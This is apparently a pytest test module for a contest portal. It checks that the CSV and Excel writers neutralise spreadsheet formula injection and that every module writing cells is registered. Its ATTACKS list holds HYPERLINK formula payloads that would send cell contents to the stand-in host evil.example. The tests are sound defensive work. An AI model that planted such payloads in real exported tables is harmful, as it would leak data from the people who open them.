"""No table that the program writes runs anything where it is opened: every writer, by one test."""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Callable
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook

from contest_portal.core.spreadsheets.mark import mark_cells
from contest_portal.core.spreadsheets.write import Column, write_csv, write_table
from contest_portal.reports.open_data import written

ROOT = Path(__file__).parents[2]
STARTS = ["=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠"]
ATTACKS = [f'{start}HYPERLINK("https://evil.example/?"&A1,"看")' for start in STARTS]
WRITERS = {
    "contest_portal/core/audit_views.py",
    "contest_portal/core/spreadsheets/mark.py",
    "contest_portal/core/spreadsheets/write.py",
    "contest_portal/reports/open_data.py",
}
"""Who writes cells: each is asked below, or by a test of its own page."""

texts = st.one_of(
    st.sampled_from(ATTACKS),
    st.text(st.characters(exclude_categories=["Cs", "Cc"]), max_size=20),
    st.builds(lambda start, rest: start + rest, st.sampled_from(STARTS), st.text("AB1!'\"|()", max_size=10)),
)


def cells_of_csv(content: bytes) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")) for cell in row]


def by_write_csv(text: str) -> bytes:
    return write_csv([Column(text)], [[text]])


def by_open_data(text: str) -> bytes:
    return written([text], [[text]])


@pytest.mark.parametrize("write", [by_write_csv, by_open_data])
@given(text=texts)
@settings(max_examples=150, deadline=None)
def test_no_cell_of_a_csv_file_begins_as_a_formula(write: Callable[[str], bytes], text: str) -> None:
    cells = cells_of_csv(write(text))
    assert len(cells) == 2  # the title and the cell
    assert [cell for cell in cells if cell.startswith(tuple(STARTS))] == []
    assert {cell.removeprefix("'") for cell in cells} == {text.removeprefix("'")}


@given(text=texts)
@settings(max_examples=60, deadline=None)
def test_no_cell_of_a_workbook_is_a_formula(text: str) -> None:
    book = load_workbook(io.BytesIO(write_table([Column(text or "题")], [[text]], name="表", heading=[text or "题"])))
    kinds = {cell.data_type for sheet in book for row in sheet.iter_rows() for cell in row if cell.value is not None}
    assert kinds <= {"s"}


@pytest.mark.parametrize("attack", ATTACKS)
def test_a_table_that_is_given_back_with_marks_has_no_formula_that_was_not_in_it(attack: str) -> None:
    content = ('姓名\r\n"' + attack.replace('"', '""') + '"\r\n').encode()
    book = load_workbook(io.BytesIO(mark_cells(content, "名单.csv", [])))
    kinds = {cell.data_type for sheet in book for row in sheet.iter_rows() for cell in row if cell.value is not None}
    assert kinds <= {"s"}


def test_every_writer_of_cells_is_known() -> None:
    writing = re.compile(r"\bcsv\.(?:writer|DictWriter)\(|\bxlsxwriter\b|from openpyxl import Workbook|\bWorkbook\(")
    found = {
        str(path.relative_to(ROOT))
        for path in (ROOT / "contest_portal").rglob("*.py")
        if writing.search(path.read_text("utf-8"))
    }
    assert found <= WRITERS, "Write tables with core/spreadsheets/write.py, or defuse what you write and test it here"
